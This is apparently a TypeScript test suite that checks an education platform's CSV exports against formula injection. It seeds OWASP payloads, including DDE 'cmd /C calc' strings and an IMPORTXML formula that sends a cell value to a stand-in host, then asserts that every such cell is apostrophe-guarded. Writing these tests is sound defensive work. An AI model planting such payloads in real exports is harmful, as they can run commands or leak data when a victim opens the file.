import { opportunities, organizations, pathways, students } from "@bridgework/db";
import type { Sector } from "@bridgework/domain";
import { parse } from "csv-parse/sync";
import { eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertHostileEvent } from "../src/features/event-schedule/event-schedule.fixtures.ts";
import { Fixtures } from "./fixtures/report-fixtures.ts";
import { createHarness, type Harness } from "./harness.ts";

/**
 * CSV formula injection over every CSV the API writes. Hostile values (OWASP's CSV injection
 * list) go into every text field that reaches an export — school and district names, pathway
 * names, sectors, a student's ids, names, guardian and demographics — each export is downloaded
 * and parsed with csv-parse, and no cell may start with a character a spreadsheet runs as a
 * formula unless it is guarded by a leading apostrophe.
 */
const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  '=HYPERLINK("http://x","y")',
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?v=",A2),"//a")',
  "+1 555 0100",
  "-3",
  "\t-1+1",
] as const;

const FORMULA_START = /^[=+\-@\t\r]/;
const YEAR = "2025-2026";
const INT = "intermediary@valley.example";
const COORD = "coordinator@valley.example";

/**
 * Every route that answers CSV, with the downloads that cover it (who asks, the query) and how
 * many guarded cells each must at least carry, so a seed that stopped reaching the file fails
 * instead of passing on an empty file. A new CSV route fails "finds every CSV route" until it
 * is listed here.
 */
const ALL_DIMS = "district,school,pathway,sector,kind,level,month,schoolYear";
const EXPORTS: Record<
  string,
  { as: string; query: string; headers?: Record<string, string>; guardedAtLeast: number }[]
> = {
  "/api/reports/placements": [
    { as: INT, query: `format=csv&groupBy=${ALL_DIMS}`, guardedAtLeast: 2 * PAYLOADS.length },
    { as: COORD, query: "groupBy=school,sector", headers: { accept: "text/csv" }, guardedAtLeast: PAYLOADS.length },
  ],
  "/api/reports/placements.csv": [{ as: INT, query: `groupBy=${ALL_DIMS}`, guardedAtLeast: 2 * PAYLOADS.length }],
  "/api/reports/unmet-demand": [{ as: INT, query: "format=csv", guardedAtLeast: PAYLOADS.length }],
  "/api/reports/equity": [
    { as: INT, query: `format=csv&dimension=gender&schoolYear=${YEAR}`, guardedAtLeast: PAYLOADS.length },
    {
      as: COORD,
      query: `dimension=raceEthnicity&schoolYear=${YEAR}`,
      headers: { accept: "text/csv" },
      guardedAtLeast: PAYLOADS.length,
    },
  ],
  "/api/exports/calpads-wbl.csv": [{ as: INT, query: `schoolYear=${YEAR}`, guardedAtLeast: 3 * PAYLOADS.length }],
  "/api/students/export.csv": [{ as: COORD, query: "", guardedAtLeast: 7 * PAYLOADS.length }],
  "/api/students/import-template.csv": [{ as: COORD, query: "", guardedAtLeast: 1 }],
  // An event's exports ({id}: the hostile event made below): student, school, interviewer, employer, comment.
  "/api/events/{id}/rubric-results.csv": [{ as: COORD, query: "", guardedAtLeast: 4 * PAYLOADS.length }],
  // Employers told apart by their trimmed name: "\t=1+1" and "=1+1" are one.
  "/api/events/{id}/volunteer-hours.csv": [{ as: INT, query: "", guardedAtLeast: PAYLOADS.length - 3 }],
};
/** The event whose exports are checked (paths with {id}). */
let eventId = "";

let h: Harness;
let f: Fixtures;

beforeAll(async () => {
  h = await createHarness();
  f = new Fixtures(h);
  // The finding's case: a school renamed through the API.
  const valleyHigh = await h.orgId("Valley High");
  const renamed = await h.app.inject({
    method: "PATCH",
    url: `/api/organizations/${valleyHigh}`,
    headers: await h.as(INT),
    payload: { name: '=HYPERLINK("http://x","y")' },
  });
  expect(renamed.statusCode, renamed.body).toBe(200);
  // The other schools and districts, straight in the database (names the API would trim, like a leading tab).
  const names: Record<string, string> = {
    "Valley Unified": "-2+3+cmd|' /C calc'!A0",
    "Eastside High": "@SUM(1+1)",
    "Riverbend Unified": "\r=1+1",
    "Riverbend High": "+1+1",
  };
  for (const [name, hostile] of Object.entries(names))
    await h.db.db.update(organizations).set({ name: hostile }).where(eq(organizations.name, name));

  for (const [i, payload] of PAYLOADS.entries()) {
    // A placement (CALPADS code 15, approved hours) of a student whose every text field is hostile.
    const opportunity = await f.opportunity(
      "Pixel Orchard Software",
      "student_enterprise",
      "Information and Communication Technologies",
      { sector: payload },
    );
    const student = await f.student(i % 2 ? '=HYPERLINK("http://x","y")' : "@SUM(1+1)", {
      localId: payload,
      ssid: payload,
      firstName: payload,
      lastName: payload,
      guardianName: payload,
      guardianEmail: payload,
      guardianPhone: payload,
      gender: payload,
      raceEthnicity: payload,
    });
    await f.placement(student, opportunity, "2026-01-10T18:00:00Z", { hours: [[4, "approved", "2026-01-05"]] });
    // A group engagement in a hostile pathway, and a request nothing can serve (more students than any seat) in a hostile sector.
    const schoolName = i % 2 ? '=HYPERLINK("http://x","y")' : "+1+1";
    const school = await f.org(schoolName);
    const [pathway] = await h.db.db
      .insert(pathways)
      .values({ regionId: school.regionId, schoolId: school.id, name: payload, sector: payload })
      .returning({ id: pathways.id });
    await f.completedMatch(schoolName, opportunity, "2026-02-10T18:00:00Z", 12, { pathwayId: pathway!.id });
    await f.request(i % 2 ? "@SUM(1+1)" : "+1+1", "internship", payload as string as Sector, { students: 500 });
  }
  eventId = await insertHostileEvent(h, PAYLOADS, COORD);
});
afterAll(() => h.close());

async function download(
  path: string,
  { as, query, headers }: { as: string; query: string; headers?: Record<string, string> },
) {
  const res = await h.app.inject({
    method: "GET",
    url: `${path.replace("{id}", eventId)}${query ? `?${query}` : ""}`,
    headers: { ...(await h.as(as)), ...headers },
  });
  expect(res.statusCode, `${path}?${query}: ${res.body}`).toBe(200);
  expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
  return parse(res.body, { bom: true }) as string[][];
}

describe("CSV exports and formula injection", () => {
  it("finds every CSV route: those that say so in the API document and those that answer text/csv", async () => {
    const doc = (await h.app.inject({ method: "GET", url: "/api/openapi.json" })).json() as {
      paths: Record<
        string,
        Record<
          string,
          {
            parameters?: { name: string; in: string; required?: boolean }[];
            responses?: Record<
              string,
              { description?: string; content?: Record<string, { schema?: { description?: string } }> }
            >;
          }
        >
      >;
    };
    const found = new Set<string>();
    // Values for required query parameters; a new required parameter needs one here.
    const REQUIRED: Record<string, string> = {
      dimension: "gender",
      schoolYear: YEAR,
      from: "2025-09-01",
      to: "2026-06-30",
    };
    for (const [path, operations] of Object.entries(doc.paths)) {
      const get = operations.get;
      if (!get) continue;
      const ok = get.responses?.["200"];
      const declared =
        Object.keys(ok?.content ?? {}).includes("text/csv") ||
        /text\/csv/.test(ok?.description ?? "") ||
        Object.values(ok?.content ?? {}).some((c) => /text\/csv/.test(c.schema?.description ?? "")) ||
        (get.parameters ?? []).some((p) => p.in === "query" && p.name === "format");
      if (declared) found.add(path);
      if (path.includes("{")) continue;
      const required = (get.parameters ?? [])
        .filter((p) => p.in === "query" && p.required)
        .map((p) => {
          expect(REQUIRED, `a value for ${path}'s required ?${p.name}`).toHaveProperty(p.name);
          return `${p.name}=${REQUIRED[p.name]}`;
        });
      for (const as of [INT, COORD]) {
        const res = await h.app.inject({
          method: "GET",
          url: `${path}?${["format=csv", ...required].join("&")}`,
          headers: { ...(await h.as(as)), accept: "text/csv" },
        });
        if (/text\/csv/.test(String(res.headers["content-type"] ?? ""))) found.add(path);
      }
    }
    expect([...found].sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  it.each(Object.entries(EXPORTS).flatMap(([path, downloads]) => downloads.map((d) => ({ path, ...d }))))(
    "guards every text cell of $path?$query ($as)",
    async ({ path, ...request }) => {
      const rows = await download(path, request);
      const cells = rows.flat();
      const raw = cells.filter((cell) => FORMULA_START.test(cell));
      expect(raw, `cells a spreadsheet would run in ${path}`).toEqual([]);
      const guarded = cells.filter((cell) => cell.startsWith("'") && FORMULA_START.test(cell.slice(1)));
      expect(guarded.length).toBeGreaterThanOrEqual(request.guardedAtLeast);
    },
  );

  it("writes each payload, guarded, and keeps numbers as numbers", async () => {
    const placements = await download("/api/reports/placements.csv", { as: INT, query: `groupBy=sector` });
    const [header, ...rows] = placements;
    const sector = header!.indexOf("sector");
    expect(rows.map((r) => r[sector]).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    for (const measure of ["experiences", "students", "seats", "hours", "employers", "newEmployers"]) {
      for (const row of rows) expect(row[header!.indexOf(measure)]).toMatch(/^\d+(\.\d+)?$/);
    }
    const calpads = await download("/api/exports/calpads-wbl.csv", { as: INT, query: `schoolYear=${YEAR}` });
    const localId = calpads[0]!.indexOf("Local Student ID");
    expect(
      calpads
        .slice(1)
        .map((r) => r[localId])
        .sort(),
    ).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    expect(calpads.slice(1).map((r) => r[calpads[0]!.indexOf("WBL Hours - External")])).toEqual(
      PAYLOADS.map(() => "4"),
    );
  });

  it("leaves the seeded values themselves unchanged in the database", async () => {
    const rows = await h.db.db
      .select({ localId: students.localId })
      .from(students)
      .where(inArray(students.localId, [...PAYLOADS]));
    expect(rows).toHaveLength(PAYLOADS.length);
    const sectors = await h.db.db
      .select({ sector: opportunities.sector })
      .from(opportunities)
      .where(inArray(opportunities.sector, [...PAYLOADS]));
    expect(sectors).toHaveLength(PAYLOADS.length);
  });
});
